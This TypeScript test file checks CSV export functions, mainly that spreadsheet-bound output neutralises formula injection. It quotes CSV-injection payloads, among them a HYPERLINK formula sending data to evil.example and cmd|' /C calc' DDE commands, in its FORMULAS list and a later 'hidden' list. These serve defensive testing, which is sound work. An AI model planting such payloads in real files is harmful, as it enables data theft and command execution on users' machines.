import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { parseCsv } from '$lib/datapackage/csv';
import { toCsv, toShownCsv } from '$lib/download/csv';

describe('toCsv(rows, columns)', () => {
  const columns = [
    { key: 'name', title: 'Name' },
    { key: 'value', title: 'Value' },
  ];

  it('writes a header of column keys and one line per row, quoting only what needs it', () => {
    const csv = toCsv(
      [
        { name: 'Plain', value: 1 },
        { name: 'Comma, "quoted"\nand a line', value: null },
      ],
      columns,
    );
    expect(csv).toBe('name,value\r\nPlain,1\r\n"Comma, ""quoted""\nand a line",\r\n');
  });

  it('reads back to the same values with a strict CSV reader, Chinese text included', () => {
    const rows = [
      { name: '联合国中非共和国多层面综合稳定团', value: 8 },
      { name: 'at least, "60 亿"', value: 6000000000 },
    ];
    const parsed = parseCsv(toCsv(rows, columns));
    expect(parsed.header).toEqual(['name', 'value']);
    expect(parsed.records.map((record) => record.values)).toEqual([
      ['联合国中非共和国多层面综合稳定团', '8'],
      ['at least, "60 亿"', '6000000000'],
    ]);
  });

  it('keeps text that starts like a formula exactly as it is: the full data is not for spreadsheets', () => {
    const rows = [
      { name: '=1+1', value: -5 },
      { name: '@SUM(A1)', value: null },
    ];
    expect(toCsv(rows, columns)).toBe('name,value\r\n=1+1,-5\r\n@SUM(A1),\r\n');
  });
});

/** The payloads of issue 20 and OWASP's CSV Injection page, and the text a spreadsheet must show. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=1+2";=1+2',
  '\t=1+1',
  '\r=1+1',
];

/** Papa Parse's reading of a CSV with a header row: the rows as objects of text. */
function readBack(csv: string) {
  const parsed = Papa.parse<Record<string, string>>(csv.replace(/^\ufeff/, ''), {
    header: true,
    delimiter: ',',
    skipEmptyLines: true,
  });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

describe('toShownCsv(rows, columns)', () => {
  const columns = [
    { key: 'name', title: 'Name' },
    { key: 'change', title: 'Change' },
    {
      key: 'rate',
      title: 'Rate',
      shown: (row: Record<string, unknown>) =>
        row.rate === null ? '' : `${Math.round(Number(row.rate) * 100)}%`,
    },
  ];

  it('starts a text cell that a spreadsheet would run as a formula with a quote mark, in a quoted field', () => {
    const rows = FORMULAS.map((name) => ({ name, change: null, rate: null }));
    const csv = toShownCsv(rows, columns);
    expect(readBack(csv).map((row) => row.Name)).toEqual(FORMULAS.map((text) => `'${text}`));
    // OWASP's own example of the escaped output.
    expect(csv).toContain('"\'=1+2"";=1+2"');
  });

  it('writes an Arabic range and month pair as typed, without the word joiners that hold them on one line on the page', async () => {
    const { formatRange, formatDate } = await import('$lib/i18n/format');
    const period = {
      key: 'period',
      title: 'الفترة',
      shown: (row: Record<string, unknown>) =>
        `${formatRange(Number(row.low), Number(row.high), 'ar')} ${formatDate(String(row.date), 'ar')}`,
    };
    const [record] = readBack(toShownCsv([{ low: 3, high: 5, date: '2013-09-26' }], [period]));
    expect(record['الفترة']).not.toMatch(/\u2060/);
    expect(record['الفترة']).toContain('3–5');
    expect(record['الفترة']).toContain('أيلول/سبتمبر');
  });

  it('tells numbers from text: -5 in a numeric column stays a number, the text "-5" and "+1" do not', () => {
    const rows = [
      { name: '-5', change: -5, rate: -0.25 },
      { name: '+1', change: -1.5e-7, rate: 0.5 },
      { name: 'Africa', change: 0, rate: null },
    ];
    expect(readBack(toShownCsv(rows, columns))).toEqual([
      { Name: "'-5", Change: '-5', Rate: '-25%' },
      { Name: "'+1", Change: '-1.5e-7', Rate: '50%' },
      { Name: 'Africa', Change: '0', Rate: '' },
    ]);
  });

  // Issue 20's probe: a spreadsheet asked to split on ; or tab (the list separator in much of
  // Europe), or to trim spaces, finds a formula inside a cell that started harmlessly.
  it('leaves no cell that starts a formula when a spreadsheet splits on ; or tab, or trims spaces', () => {
    const hidden = [
      "x;=cmd|' /C calc'!A0",
      'a\t=1+2',
      ' =1+2',
      '\u3000=HYPERLINK("http://example.org")',
      '\u00a0@SUM(A1)',
      'x; -2+3',
    ];
    const titled = [{ key: 'name', title: 'g;=6+6' }];
    const csv = toShownCsv(
      hidden.map((name) => ({ name })),
      titled,
    );
    for (const delimiter of [',', ';', '\t']) {
      const parsed = Papa.parse<string[]>(csv.replace(/^\ufeff/, ''), {
        delimiter,
        skipEmptyLines: true,
      });
      for (const cell of parsed.data.flat()) {
        expect(
          cell.trimStart(),
          `${JSON.stringify(cell)} split on ${JSON.stringify(delimiter)}`,
        ).not.toMatch(/^[=+\-@]/);
      }
    }
    expect(readBack(csv).map((row) => row['g;=6+6'] ?? row["'g;=6+6"])).toEqual(
      hidden.map((text) => `'${text}`),
    );
  });

  it('neutralises the text a column shows for a number when it is not a plain number', () => {
    const shown = [{ key: 'value', title: 'Value', shown: () => '-US$6 billion' }];
    expect(readBack(toShownCsv([{ value: -6e9 }], shown))).toEqual([{ Value: "'-US$6 billion" }]);
  });
});
